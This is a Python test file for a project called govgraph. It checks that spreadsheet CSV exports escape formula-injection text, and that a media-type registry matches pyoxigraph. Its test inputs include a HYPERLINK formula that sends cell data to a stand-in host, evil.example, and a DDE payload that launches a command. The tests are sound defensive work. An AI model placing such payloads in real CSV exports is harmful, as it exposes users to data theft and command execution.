"""The formats: CSV for spreadsheets neutralises formulas while SPARQL results stay data; the registry describes
each format once, in agreement with pyoxigraph, and nothing else names a media type."""

from __future__ import annotations

import ast
import csv
import io
import re
import subprocess
import sys
from typing import get_args

import httpx
import pytest

from govgraph.analysis import table_csv
from govgraph.formats import FORMATS, RDF, RESULTS, Format, by_media_type, find, of_kind
from govgraph.formats.writers import sparql_csv, spreadsheet_cell, spreadsheet_csv
from govgraph.rdf import RdfFormatName
from govgraph.settings import Settings
from govgraph.store.base import QueryResult, Term
from govgraph.web.questions import _csv as question_csv
from tests.fixtures import ROOT, Server, cli_env

SOURCE = ROOT / "src" / "govgraph"

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
IGF = "https://w3id.org/govgraph/id/igf"


def cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode())))


@pytest.mark.parametrize("text", [FORMULA, "+cmd|'/c calc'!A0", "-2+3", "@SUM(A1:A9)", "\tlead", "\rlead"])
def test_a_text_that_would_start_a_formula_is_quoted(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["ICANN", "", "-0.25", "+3", "1e-3", "2019-06-01", 0.5, -2, None])
def test_plain_texts_and_numbers_stay_as_they_are(value: object) -> None:
    assert spreadsheet_cell(value) == value


def test_a_question_answer_as_csv_quotes_a_formula_label() -> None:
    result = QueryResult("select", ["forum", "note"], [[Term("uri", IGF), Term("literal", FORMULA)]])
    rows = cells(question_csv(result, {IGF: "@IGF"}))
    assert rows == [["forum", "forum_label", "note"], [IGF, "'@IGF", "'" + FORMULA]]


def test_an_analysis_table_as_csv_quotes_a_formula_label() -> None:
    rows = cells(table_csv([{"label": FORMULA, "degree": -0.5}, {"label": "ICANN", "group": "=1+1"}]))
    assert rows == [["label", "degree", "group"], ["'" + FORMULA, "-0.5", ""], ["ICANN", "", "'=1+1"]]
    assert spreadsheet_csv(["a"], [["=x"]]) == b"a\r\n'=x\r\n"


def test_sparql_csv_results_keep_every_value_exactly() -> None:
    """The W3C SPARQL 1.1 CSV results format is data for programs: a quote would change the value."""
    result = QueryResult("select", ["x"], [[Term("literal", FORMULA)]])
    assert cells(sparql_csv(result)) == [["x"], [FORMULA]]


def test_the_endpoint_csv_keeps_every_value_exactly(server: Server) -> None:
    query = 'SELECT ?x WHERE { VALUES ?x { "=1+1" "@me" } }'
    response = httpx.get(f"{server.base_url}/sparql", params={"query": query}, headers={"Accept": "text/csv"})
    assert cells(response.content) == [["x"], ["=1+1"], ["@me"]]


# -- the registry -----------------------------------------------------------------------------------------


def test_each_format_is_named_once_within_its_kind() -> None:
    named = [(f.kind, f.key) for f in FORMATS]
    assert len(named) == len(set(named))
    for kind in {f.kind for f in FORMATS}:
        names = [n for f in of_kind(kind).values() for n in (f.key, *f.names)]
        assert len(names) == len(set(names)), kind  # a `format` value names one format of a kind


@pytest.mark.parametrize("fmt", [f for f in FORMATS if f.engine is not None], ids=lambda f: f"{f.kind}:{f.key}")
def test_engine_formats_agree_with_pyoxigraph(fmt: Format) -> None:
    """Media type and extension as pyoxigraph itself knows them: a typo in the registry shows here."""
    assert fmt.media_type == fmt.engine.media_type.split(";")[0]
    assert fmt.engine.file_extension in fmt.extensions
    if fmt.key != "jsonld":  # pyoxigraph names JSON-LD by a newer IRI than SPARQL Service Descriptions use
        assert fmt.w3c == fmt.engine.iri


def test_the_rdf_format_names_of_the_stores_are_the_registry_keys() -> None:
    """The stores' type of an RDF syntax name is spelled out for the type checker; it holds what the registry does."""
    assert set(get_args(RdfFormatName)) == set(RDF)


def test_lookups_by_name_and_media_type() -> None:
    assert find(RDF.values(), "TTL") is RDF["turtle"] and find(RDF.values(), "text/turtle; charset=utf-8")
    assert find(RESULTS.values(), "application/json") is RESULTS["json"] and find(RESULTS.values(), "ttl") is None
    assert by_media_type(RDF.values(), "application/x-trig") is RDF["trig"]
    assert by_media_type(RDF.values(), "text/plain") is None  # read as N-Triples only when asked to be broad
    assert by_media_type(RDF.values(), "text/plain", broader=True) is RDF["ntriples"]
    assert [f.content_type for f in (RDF["turtle"], RDF["jsonld"])] == [
        "text/turtle; charset=utf-8",
        "application/ld+json",
    ]


# Request bodies, not formats govgraph writes or reads as data: the SPARQL protocol's and HTML forms'.
REQUEST_BODIES = {
    "application/sparql-query",
    "application/sparql-update",
    "application/x-www-form-urlencoded",
    "multipart/form-data",
}
_MEDIA_TYPE = re.compile(r"^(text|application|image|audio|video|multipart)/[\w.+-]+")


def test_no_media_type_is_written_outside_the_registry() -> None:
    """Every format is described once: elsewhere the code names formats by the registry, not by media types."""
    registry = SOURCE / "formats" / "registry.py"
    found = []
    for path in sorted(SOURCE.rglob("*.py")):
        if path == registry:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Constant) and isinstance(node.value, str | bytes):
                text = node.value.decode() if isinstance(node.value, bytes) else node.value
                match = _MEDIA_TYPE.match(text)
                if match and match.group(0) not in REQUEST_BODIES:
                    found.append(f"{path.relative_to(SOURCE)}:{node.lineno}: {text}")
    assert found == []


def test_the_cli_takes_the_registry_keys_and_refuses_others_before_running(repo_settings: Settings) -> None:
    env = cli_env(GOVGRAPH_STORE=str(repo_settings.store))
    run = [sys.executable, "-m", "govgraph.cli", "query", "ASK {}", "--format"]
    wrong = subprocess.run([*run, "pdf"], capture_output=True, text=True, env=env, timeout=120)
    assert wrong.returncode == 2
    assert f"Use one of: table, {', '.join(RESULTS)}, turtle, ntriples, jsonld, rdfxml." in wrong.stderr
    by_name = subprocess.run([*run, "application/sparql-results+xml"], capture_output=True, text=True, env=env)
    assert by_name.returncode == 0 and "<boolean>true</boolean>" in by_name.stdout
